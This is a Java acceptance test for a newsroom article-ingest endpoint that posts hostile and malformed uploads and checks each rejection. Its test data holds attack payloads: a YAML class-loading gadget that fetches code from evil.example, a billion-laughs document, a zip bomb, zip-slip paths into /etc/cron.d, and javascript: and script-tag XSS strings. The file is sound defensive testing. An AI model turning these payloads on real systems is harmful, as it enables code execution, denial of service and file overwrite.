package dev.newsroom.ingest.rest;

import static dev.newsroom.ingest.Uploads.seedAt;
import static dev.newsroom.ingest.Uploads.seedWithLine;
import static dev.newsroom.ingest.Uploads.utf8;
import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.newsroom.infra.NewsroomTestInfrastructure;
import dev.newsroom.ingest.Uploads;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The acceptance table: hostile and malformed uploads, each with the status it must get and the file,
 * field and line its problem must name. A case with a field names the field and line of the first
 * problem about that field; a case without names the file (and, for a malformed file, the line).
 */
@QuarkusTest
@QuarkusTestResource(NewsroomTestInfrastructure.class)
class HostileFilesTest {

    private static final String TOKEN = "Bearer test-token";
    private static final int MB = 1024 * 1024;

    @BeforeEach
    void waitUntilReady() {
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
                given().get("/q/health/ready").then().statusCode(200));
    }

    /**
     * @param status  the HTTP status the upload must get
     * @param file    the file its problem must name (null: no located problem, e.g. 401 and 415)
     * @param field   the field its problem must name (null: a problem about the file, not one field)
     * @param line    the line its problem must name (0: no line, e.g. a size limit)
     * @param message words the problem's message must contain
     */
    record Case(String name, UnaryOperator<RequestSpecification> request, int status, String file, String field,
                int line, String message) {
        @Override
        public String toString() {
            return name + " -> " + status;
        }
    }

    private static Case file(String name, String text, int status, String field, int line, String message) {
        return file(name, utf8(text), status, field, line, message);
    }

    private static Case file(String name, byte[] bytes, int status, String field, int line, String message) {
        return new Case(name, r -> r.header("Authorization", TOKEN).contentType("text/markdown")
                .header("Content-Disposition", "attachment; filename=\"hostile.md\"").body(bytes),
                status, "hostile.md", field, line, message);
    }

    private static Case upload(String name, String contentType, String fileName, byte[] bytes, int status,
                               String file, String message) {
        return new Case(name, r -> r.header("Authorization", TOKEN).contentType(contentType)
                .header("Content-Disposition", "attachment; filename=\"" + fileName + "\"").body(bytes),
                status, file, null, 0, message);
    }

    static Stream<Case> cases() {
        List<Case> cases = new ArrayList<>();
        // ---- not a file of the format at all: 400, with the line
        cases.add(file("empty file", "", 400, null, 1, "file is empty"));
        cases.add(file("no front matter", "# Just Markdown\n\nSome text.\n", 400, null, 1, "does not start with a front-matter line"));
        cases.add(file("unclosed front matter", "---\ntitle: \"Never closed\"\nwebUrl: \"https://example.com/a\"\n", 400, null, 1, "never closed"));
        cases.add(file("YAML syntax error", seedWithLine(9, "type: article: news"), 400, "type", 9, "YAML syntax error"));
        cases.add(file("tab indentation", seedWithLine(15, "\tname: New York Times"), 400, "provider", 15, "YAML syntax error"));
        // a double-quoted YAML scalar may span lines: the parser notices at the next quote, and says so there
        cases.add(file("unterminated quote", seedWithLine(10, "quality: \"89"), 400, "provider", 18, "YAML syntax error"));
        cases.add(file("duplicate keys", seedWithLine(4, "title: \"A second title\""), 400, "title", 4, "duplicate key 'title' (first on line 3)"));
        cases.add(file("YAML tag that would instantiate a class", seedWithLine(2,
                "category: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]"),
                400, "category", 2, "Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager"));
        cases.add(file("local YAML tag", seedWithLine(9, "type: !article news"), 400, "type", 9, "YAML tag '!article' is not allowed"));
        cases.add(file("tag on the whole front matter", "---\n!!java.util.HashMap\ntitle: x\n---\n", 400, null, 2, "is not allowed"));
        cases.add(file("merge key", seedWithLine(2, "base: &base {category: news}\n<<: *base"), 400, null, 3, "merge keys"));
        cases.add(file("billion laughs", billionLaughs(), 400, "c", 4, "YAML refused"));
        cases.add(file("1,000-deep nesting (flow)", "---\ndeep: " + "[".repeat(1000) + "]".repeat(1000) + "\n---\n",
                400, "deep", 2, "YAML refused: Nesting Depth exceeded max 20"));
        cases.add(file("62-deep nesting (flow)", "---\ndeep: " + "[".repeat(62) + "]".repeat(62) + "\n---\n",
                400, "deep", 2, "YAML refused: Nesting Depth exceeded max 20"));
        // Block style is what the fast YAML path composes (SeedFormatLimitsTest proves it would take these
        // files but for the limit), so these cases hold the limit on the fast path too.
        cases.add(file("62-deep nesting (block)", blockNesting(62), 400, "k0", 22, "YAML refused: Nesting Depth exceeded max 20"));
        cases.add(file("200-deep nesting (block)", blockNesting(200), 400, "k0", 22, "YAML refused: Nesting Depth exceeded max 20"));
        cases.add(file("raw NUL in the front matter", seedWithLine(4, "excerpt: \"So \u0000 investigators\""), 400, "excerpt", 4,
                "the character U+0000 is not allowed in YAML"));
        cases.add(file("raw escape character in a topic", seedWithLine(23, "  - A\u001BI"), 400, "topics", 23,
                "the character U+001B is not allowed in YAML"));
        cases.add(file("1,000-deep nesting (block) is over the length limit first", blockNesting(1000), 413, null, 2,
                "characters long; the limit is 262144"));
        cases.add(file("invalid UTF-8", invalidUtf8InTitle(), 400, null, 3, "invalid UTF-8 at byte offset"));
        cases.add(file("UTF-16 file", utf16Seed(), 400, null, 1, "invalid UTF-8 at byte offset 0"));
        cases.add(file("overlong UTF-8 encoding", withBytes("---\ntitle: \"", new byte[] {(byte) 0xC0, (byte) 0xAF}, "\"\n---\n"),
                400, null, 2, "invalid UTF-8 at byte offset 12"));
        cases.add(file("UTF-8 encoded surrogate", withBytes("---\ntitle: \"", new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, "\"\n---\n"),
                400, null, 2, "invalid UTF-8"));

        // ---- readable YAML, not a valid article: 422, with field and line
        cases.add(file("javascript: URL", seedWithLine(6, "webUrl: \"javascript:alert(1)\""), 422, "webUrl", 6, "the scheme 'javascript:' is not allowed"));
        cases.add(file("JaVaScRiPt: URL", seedWithLine(6, "webUrl: \"JaVaScRiPt:alert(1)\""), 422, "webUrl", 6, "the scheme 'javascript:' is not allowed"));
        cases.add(file("javascript: URL behind whitespace", seedWithLine(6, "webUrl: \"  javascript:alert(1)\""), 422, "webUrl", 6, "must be an absolute http or https URL"));
        cases.add(file("vbscript: AMP URL", seedWithLine(7, "ampWebUrl: \"vbscript:msgbox(1)\""), 422, "ampWebUrl", 7, "'vbscript:' is not allowed"));
        cases.add(file("ftp: CDN AMP URL", seedWithLine(8, "cdnAmpWebUrl: \"ftp://example.com/a\""), 422, "cdnAmpWebUrl", 8, "'ftp:' is not allowed"));
        cases.add(file("data: image URL", seedWithLine(27, "  - url: \"data:image/png;base64,iVBORw0KGgo=\""), 422, "images[0].url", 27, "'data:' is not allowed"));
        cases.add(file("javascript: provider logo", seedWithLine(18, "    - url: \"javascript:alert(1)\""), 422, "provider.images[0].url", 18, "'javascript:' is not allowed"));
        cases.add(file("file: related URL", seedWithLine(36, "    webUrl: \"file:///etc/passwd\""), 422, "related[0].webUrl", 36, "'file:' is not allowed"));
        cases.add(file("javascript: related URL", seedWithLine(36, "    webUrl: \"javascript:alert(1)\""), 422, "related[0].webUrl", 36, "'javascript:' is not allowed"));
        cases.add(file("javascript: image URL", seedWithLine(27, "  - url: \"javascript:alert(1)\""), 422, "images[0].url", 27, "'javascript:' is not allowed"));
        cases.add(file("javascript: image URL of a related entry", seedWithLine(43, "      - url: \"javascript:alert(1)\""), 422,
                "related[0].images[0].url", 43, "'javascript:' is not allowed"));
        cases.add(file("33,000 topics", seedWithLine(24, "  - Computer Vision\n" + "  - AI\n".repeat(33_000).stripTrailing()), 422,
                "topics", 23, "has 33002 topics; at most 100 are allowed (newsroom.ingest.article.max-topics)"));
        cases.add(file("title of 2,001 characters", seedWithLine(3, "title: " + "t".repeat(2001)), 422, "title", 3,
                "is 2001 characters long; at most 2000"));
        cases.add(file("related title of 2,001 characters", seedWithLine(33, "  - title: " + "t".repeat(2001)), 422,
                "related[0].title", 33, "at most 2000"));
        cases.add(file("relative article URL", seedWithLine(6, "webUrl: \"/2020/01/12/a.html\""), 422, "webUrl", 6, "must be an absolute http or https URL"));
        cases.add(file("space in the host", seedWithLine(6, "webUrl: \"https://www.ny times.com/a.html\""), 422, "webUrl", 6, "must be an absolute http or https URL"));
        // addresses with a host that the pages and feeds would never link (SafeLink): refused, not stored unlinked
        cases.add(file("space in the path", seedWithLine(6, "webUrl: \"https://www.nytimes.com/a b.html\""), 422, "webUrl", 6,
                "without spaces, control or invisible characters (write a space as %20)"));
        cases.add(file("space before the address", seedWithLine(6, "webUrl: \" https://www.nytimes.com/a.html\""), 422, "webUrl", 6,
                "without spaces, control or invisible characters"));
        cases.add(file("zero-width space in the path", seedWithLine(6, "webUrl: \"https://www.nytimes.com/a\\u200Bb.html\""), 422,
                "webUrl", 6, "without spaces, control or invisible characters"));
        cases.add(file("right-to-left override in an AMP URL", seedWithLine(7, "ampWebUrl: \"https://www.nytimes.com/\\u202Elmth.a\""), 422,
                "ampWebUrl", 7, "without spaces, control or invisible characters"));
        cases.add(file("angle brackets in the path", seedWithLine(6, "webUrl: \"https://www.nytimes.com/<script>.html\""), 422, "webUrl", 6,
                "as RFC 3986 writes it"));
        cases.add(file("a lone percent sign", seedWithLine(6, "webUrl: \"https://www.nytimes.com/100%-sure.html\""), 422, "webUrl", 6,
                "as RFC 3986 writes it"));
        cases.add(file("dated decades ahead (it would top heat until then)", seedWithLine(5, "publishedDateTime: 2099-01-01T00:00:00Z"),
                422, "publishedDateTime", 5, "more than 1 day after ingest's clock"));
        cases.add(file("user name and password before the host", seedWithLine(6, "webUrl: \"https://editor:secret@www.nytimes.com/a.html\""),
                422, "webUrl", 6, "without a user name or password before the host"));
        cases.add(file("a trusted name hiding the host of a related entry", seedWithLine(36, "    webUrl: \"https://thenextweb.com@evil.example/a\""),
                422, "related[0].webUrl", 36, "without a user name or password before the host"));
        cases.add(file("user name in an image URL", seedWithLine(27, "  - url: \"https://user@static01.nyt.com/a.jpg\""), 422,
                "images[0].url", 27, "without a user name or password before the host"));
        cases.add(file("space in a related entry's URL", seedWithLine(36, "    webUrl: \"https://thenextweb.com/a b\""), 422,
                "related[0].webUrl", 36, "write a space as %20"));
        cases.add(file("space in an image URL", seedWithLine(27, "  - url: \"https://static01.nyt.com/a b.jpg\""), 422,
                "images[0].url", 27, "write a space as %20"));
        cases.add(file("date in a wrong format", seedWithLine(5, "publishedDateTime: 12/01/2020 22:17"), 422, "publishedDateTime", 5, "ISO-8601"));
        cases.add(file("date without a zone", seedWithLine(5, "publishedDateTime: 2020-01-12T22:17:00"), 422, "publishedDateTime", 5, "with Z or an offset"));
        cases.add(file("date only", seedWithLine(5, "publishedDateTime: 2020-01-12"), 422, "publishedDateTime", 5, "ISO-8601"));
        cases.add(file("impossible date", seedWithLine(5, "publishedDateTime: 2020-02-30T10:00:00Z"), 422, "publishedDateTime", 5, "ISO-8601"));
        cases.add(file("date in the year 10000", seedWithLine(5, "publishedDateTime: +10000-01-01T00:00:00Z"), 422,
                "publishedDateTime", 5, "must lie in the years 0001 to 9999 (UTC)"));
        cases.add(file("date in the year 0 once in UTC", seedWithLine(5, "publishedDateTime: 0001-01-01T00:30:00+01:00"), 422,
                "publishedDateTime", 5, "must lie in the years 0001 to 9999 (UTC)"));
        cases.add(file("related entry dated in the year 10000", seedWithLine(35, "    publishedDateTime: +10000-01-01T00:00:00Z"),
                422, "related[0].publishedDateTime", 35, "must lie in the years 0001 to 9999 (UTC)"));
        cases.add(file("quality as a string", seedWithLine(10, "quality: \"89\""), 422, "quality", 10, "must be an integer, found the text '89'"));
        cases.add(file("quality negative", seedWithLine(10, "quality: -3"), 422, "quality", 10, "must be an integer of 0 or more"));
        cases.add(file("quality decimal", seedWithLine(10, "quality: 89.5"), 422, "quality", 10, "must be an integer"));
        cases.add(file("quality beyond an int", seedWithLine(10, "quality: 99999999999"), 422, "quality", 10, "must be an integer between"));
        cases.add(file("heat negative", seedWithLine(11, "heat: -5"), 422, "heat", 11, "must be an integer of 0 or more"));
        cases.add(file("image width zero", seedWithLine(28, "    width: 0"), 422, "images[0].width", 28, "must be a positive integer"));
        cases.add(file("image height negative", seedWithLine(29, "    height: -550"), 422, "images[0].height", 29, "must be a positive integer"));
        cases.add(file("image width as text", seedWithLine(28, "    width: wide"), 422, "images[0].width", 28, "must be an integer"));
        cases.add(file("missing title", seedWithLine(3, null), 422, "title", 2, "is required"));
        cases.add(file("blank title", seedWithLine(3, "title: \"   \""), 422, "title", 3, "is required"));
        cases.add(file("title of control characters only", seedWithLine(3, "title: \"\\x01\\x02\\x7F\""), 422, "title", 3, "is required"));
        cases.add(file("title as a list", seedWithLine(3, "title: [a, b]"), 422, "title", 3, "must be text"));
        cases.add(file("missing webUrl and originalUrl", seedWithLine(6, null), 422, "webUrl", 2, "is required (or originalUrl"));
        cases.add(file("missing publishedDateTime", seedWithLine(5, null), 422, "publishedDateTime", 2, "is required"));
        cases.add(file("provider as text", seedWithLine(14, "provider: New York Times\nprovider_was: x").replace(
                "  name: New York Times\n  domain: nytimes.com\n  images:\n    - url: \"/assets/images/organizations/nytimes.com-50x50.jpg\"\n      width: 50\n      height: 50\n", ""),
                422, "provider", 14, "must be a mapping"));
        cases.add(file("related entry without title", seedWithLine(33, "  - excerpt_was_title: \"x\""), 422, "related[0].title", 33, "is required"));
        cases.add(file("published not a boolean", seedWithLine(12, "published: maybe"), 422, "published", 12, "must be true or false"));
        cases.add(file("topics as text", seedWithLine(22, "topics: AI\ntopics_was:").replace("topics_was:\n  - AI\n  - Computer Vision\n", ""),
                422, "topics", 22, "must be a list"));
        cases.add(file("front matter a list", "---\n- title\n- webUrl\n---\n", 422, null, 2, "front matter must be a mapping"));

        // ---- hostile text that is still an article: accepted as text (escaping is the reader's job)
        cases.add(accepted("<script> in the title", seedAt("https://example.com/hostile/script").replace(
                "title: \"How the Police", "title: \"<script>alert('x')</script> How the Police")));
        cases.add(accepted("control characters in the title", seedAt("https://example.com/hostile/controls").replace(
                "title: \"How the Police", "title: \"\\x07\\x00How\\t\\tthe Police")));
        cases.add(accepted("NUL in the body", seedAt("https://example.com/hostile/nul-body") + "A body \u0000 with a NUL.\n"));
        cases.add(accepted("escaped NUL and controls in every kind of field", seedAt("https://example.com/hostile/nul-fields")
                .replace("category: news", "category: \"news\\x00\"").replace("  - AI\n", "  - \"AI\\x0B\"\n")
                .replace("type: article\n", "type: \"article\\uFFFF\"\n").replace("secured: \"", "secured: \"\\x00")));
        cases.add(accepted("onerror attribute in an excerpt", seedAt("https://example.com/hostile/onerror").replace(
                "excerpt: \"So investigators", "excerpt: \"<img src=x onerror=alert(1)> So investigators")));

        // ---- sizes: 413, naming the file
        cases.add(file("10 MB file", tenMegabytes(), 413, null, 0, "the limit is 1048576 bytes"));
        cases.add(new Case("10 MB file sent chunked (no length)", r -> r.header("Authorization", TOKEN).contentType("text/markdown")
                .header("Content-Disposition", "attachment; filename=\"hostile.md\"")
                .body(new ByteArrayInputStream(tenMegabytes())), 413, "hostile.md", null, 0, "larger than the limit of 1048576 bytes"));
        cases.add(file("front matter over its length limit", longFrontMatter(), 413, null, 2, "characters long; the limit is 262144"));

        // ---- the request itself: 401, 415
        cases.add(new Case("no token", r -> r.contentType("text/markdown").body(utf8(Uploads.seed())), 401, null, null, 0, "Bearer"));
        cases.add(new Case("wrong token", r -> r.header("Authorization", "Bearer not-the-token").contentType("text/markdown")
                .body(utf8(Uploads.seed())), 401, null, null, 0, "not the ingest token"));
        cases.add(new Case("wrong media type", r -> r.header("Authorization", TOKEN).contentType("image/png")
                .body(new byte[] {(byte) 0x89, 'P', 'N', 'G'}), 415, null, null, 0, ""));

        // ---- a content coding: 415 naming the header; compressed files go as an archive
        cases.add(new Case("gzip-compressed file", r -> r.header("Authorization", TOKEN).contentType("text/markdown")
                .header("Content-Disposition", "attachment; filename=\"hostile.md\"").header("Content-Encoding", "gzip")
                .body(gzip(utf8(Uploads.seed()))), 415, "hostile.md", "Content-Encoding", 0, "content coding 'gzip' is not supported"));
        cases.add(new Case("file claiming two codings", r -> r.header("Authorization", TOKEN).contentType("text/markdown")
                .header("Content-Disposition", "attachment; filename=\"hostile.md\"").header("Content-Encoding", "identity, BR")
                .body(utf8(Uploads.seed())), 415, "hostile.md", "Content-Encoding", 0, "content coding 'br' is not supported"));
        cases.add(new Case("archive with a content coding", r -> r.header("Authorization", TOKEN).contentType("application/zip")
                .header("Content-Encoding", "deflate").body(Uploads.zip(Map.of("a.md", utf8(Uploads.seed())))), 415, "upload",
                "Content-Encoding", 0, "content coding 'deflate' is not supported"));
        cases.add(new Case("identity coding", r -> r.header("Authorization", TOKEN).contentType("text/markdown")
                .header("Content-Encoding", "identity").body(utf8(seedAt("https://example.com/hostile/identity-coding"))),
                202, null, null, 0, "accepted"));

        // ---- archives and forms: the whole upload refused
        cases.add(upload("zip bomb", "application/zip", "bomb.zip", zipBomb(), 413, "bomb.zip", "unpacks to more than 67108864 bytes"));
        cases.add(upload("tar with path traversal", "application/gzip", "evil.tar.gz",
                Uploads.tarGz(Map.of("../evil.md", utf8(Uploads.seed()))), 400, "evil.tar.gz!/../evil.md", "points outside the archive"));
        cases.add(upload("zip with path traversal (zip slip)", "application/zip", "slip.zip",
                Uploads.zip(Map.of("articles/../../../etc/cron.d/evil.md", utf8(Uploads.seed()))), 400,
                "slip.zip!/articles/../../../etc/cron.d/evil.md", "points outside the archive"));
        cases.add(upload("zip with an absolute path", "application/zip", "abs.zip",
                Uploads.zip(Map.of("/etc/passwd.md", utf8(Uploads.seed()))), 400, "abs.zip!//etc/passwd.md", "points outside the archive"));
        cases.add(upload("not a zip at all", "application/zip", "fake.zip", utf8(Uploads.seed()), 400, "fake.zip", "not a readable zip archive"));
        cases.add(upload("not a gzip at all", "application/gzip", "fake.tar.gz", utf8(Uploads.seed()), 400, "fake.tar.gz", "not a readable tar.gz archive"));
        cases.add(upload("archive with too many entries", "application/zip", "many.zip", manyEntries(10_001), 413, "many.zip", "more than 10000 entries"));
        cases.add(new Case("multipart without a boundary", r -> r.header("Authorization", TOKEN)
                .contentType("multipart/form-data").body(utf8(Uploads.seed())), 400, "multipart/form-data", null, 0, "without a boundary"));
        cases.add(new Case("multipart with another field", r -> r.header("Authorization", TOKEN)
                .multiPart("attachment", "a.md", utf8(Uploads.seed()), "text/markdown"), 400, "multipart/form-data", null, 0,
                "unexpected form field 'attachment'"));
        cases.add(new Case("too many files in a batch", HostileFilesTest::tooManyParts, 413, "multipart/form-data", null, 0,
                "more than 5000 files in one batch"));
        return cases.stream();
    }

    private static Case accepted(String name, String text) {
        return file(name, text, 202, null, 0, "accepted");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void shouldAnswerEveryHostileOrMalformedUploadWithItsStatusAndLocation(Case c) {
        Response response = c.request().apply(given()).post("/ingest");

        assertThat(response.statusCode()).as(response.asString()).isEqualTo(c.status());
        if (c.status() == 202) {
            assertThat(response.jsonPath().getString("status")).isEqualTo(c.message());
            return;
        }
        assertThat(response.contentType()).startsWith("application/problem+json");
        JsonPath problem = response.jsonPath();
        assertThat(problem.getInt("status")).isEqualTo(c.status());
        List<Map<String, Object>> problems = problem.getList("problems");
        if (c.file() == null) {
            assertThat(problem.getString("detail")).contains(c.message());
            return;
        }
        Map<String, Object> located = problems.stream()
                .filter(p -> c.field() == null || c.field().equals(p.get("field")))
                .findFirst().orElseThrow(() -> new AssertionError("no problem about " + c.field() + " in " + problems));
        assertThat(located.get("file")).isEqualTo(c.file());
        assertThat(located.get("field")).isEqualTo(c.field());
        assertThat(located.get("line")).as("line of %s", located).isEqualTo(c.line());
        assertThat((String) located.get("message")).contains(c.message());
    }

    // ---------------------------------------------------------------- the hostile files

    private static byte[] gzip(byte[] bytes) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
            gzip.write(bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static String billionLaughs() {
        StringBuilder yaml = new StringBuilder("---\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        char previous = 'a';
        for (char c = 'b'; c <= 'i'; c++) {
            yaml.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                yaml.append(i == 0 ? "" : ",").append('*').append(previous);
            }
            yaml.append("]\n");
            previous = c;
        }
        return yaml.append("title: lol\n---\n").toString();
    }

    /** Block mappings nested {@code depth} deep, ending in a key and a value (the fast YAML path's shape). */
    private static String blockNesting(int depth) {
        StringBuilder yaml = new StringBuilder("---\n");
        for (int i = 0; i < depth; i++) {
            yaml.append("  ".repeat(i)).append("k").append(i).append(":\n");
        }
        return yaml.append("  ".repeat(depth)).append("leaf: x\n---\n").toString();
    }

    private static byte[] invalidUtf8InTitle() {
        String seed = Uploads.seed();
        int at = seed.indexOf("Police");
        return withBytes(seed.substring(0, at), new byte[] {(byte) 0xFF}, seed.substring(at));
    }

    private static byte[] utf16Seed() {
        return concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, Uploads.seed().getBytes(StandardCharsets.UTF_16LE));
    }

    private static byte[] withBytes(String before, byte[] bytes, String after) {
        return concat(concat(utf8(before), bytes), utf8(after));
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] out = new byte[a.length + b.length];
        System.arraycopy(a, 0, out, 0, a.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }

    private static byte[] tenMegabytes() {
        String seed = seedAt("https://example.com/ten-megabytes");
        return utf8(seed + "x".repeat(10 * MB - seed.length()));
    }

    private static String longFrontMatter() {
        return seedWithLine(2, "category: news\npadding: \"" + "x".repeat(300_000) + "\"");
    }

    private static byte[] zipBomb() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.setLevel(9);
            zip.putNextEntry(new ZipEntry("bomb.md"));
            byte[] zeros = new byte[MB];
            for (int i = 0; i < 100; i++) {
                zip.write(zeros);
            }
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] manyEntries(int count) {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        for (int i = 0; i < count; i++) {
            entries.put("d" + i + "/", new byte[0]);
        }
        return Uploads.zip(entries);
    }

    private static RequestSpecification tooManyParts(RequestSpecification r) {
        r.header("Authorization", TOKEN);
        for (int i = 0; i <= 5000; i++) {
            r.multiPart("files", "f" + i + ".md", new byte[] {'-'}, "text/markdown");
        }
        return r;
    }
}
